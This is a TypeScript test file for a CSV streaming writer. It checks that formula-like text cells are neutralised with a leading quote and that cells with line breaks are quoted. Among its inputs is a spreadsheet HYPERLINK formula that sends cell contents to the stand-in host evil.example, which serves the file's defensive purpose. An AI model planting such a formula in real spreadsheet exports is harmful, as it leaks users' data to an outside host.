import { stringify } from 'csv-stringify/sync';
import { CsvColumn, CSV_FORMAT, csvStream } from './list-response';

interface Row {
  text: string | null;
  amount: number;
  decimal: string;
  flag: boolean;
}

const COLUMNS: CsvColumn<Row>[] = [
  { header: 'text', value: (r) => r.text },
  { header: 'amount', value: (r) => r.amount },
  { header: 'decimal', value: (r) => r.decimal },
  { header: 'flag', value: (r) => r.flag },
];

async function streamed(rows: Row[]): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of csvStream(
    (async function* () {
      yield* rows;
    })(),
    COLUMNS,
  )) {
    chunks.push(Buffer.from(chunk as string));
  }
  return Buffer.concat(chunks).toString('utf8');
}

const row = (text: string | null, amount = 1): Row => ({ text, amount, decimal: '11131.18', flag: true });

describe('CSV_FORMAT: no cell a spreadsheet would evaluate', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', "'＝1+1"],
  ])('a streamed list writes the text cell %j with a single quote in front', async (text, cell) => {
    const csv = await streamed([row(text)]);
    expect(csv).toBe(`\ufefftext,amount,decimal,flag\r\n${cell},1,11131.18,true\r\n`);
  });

  it('leaves numbers (negative ones too), decimal strings, booleans, empty cells and other text as they are', async () => {
    const csv = await streamed([row('seized in 2014 - more than 5 t', -5), row(null, 0), row('1+1', 2.5)]);
    expect(csv).toBe(
      '\ufefftext,amount,decimal,flag\r\nseized in 2014 - more than 5 t,-5,11131.18,true\r\n,0,11131.18,true\r\n1+1,2.5,11131.18,true\r\n',
    );
  });

  it('quotes a cell with a line feed or a carriage return of its own, so that it cannot end the row', async () => {
    const csv = await streamed([row('first line\nsecond line'), row('a\rb')]);
    expect(csv).toBe(
      '\ufefftext,amount,decimal,flag\r\n"first line\nsecond line",1,11131.18,true\r\n"a\rb",1,11131.18,true\r\n',
    );
  });

  it('applies to the statistics writer too (csv-stringify/sync with the same options)', () => {
    expect(
      stringify(
        [
          ['label', 'value'],
          ['=cmd', -3],
          ['-', 4],
        ],
        CSV_FORMAT,
      ),
    ).toBe("\ufefflabel,value\r\n'=cmd,-3\r\n'-,4\r\n");
  });
});
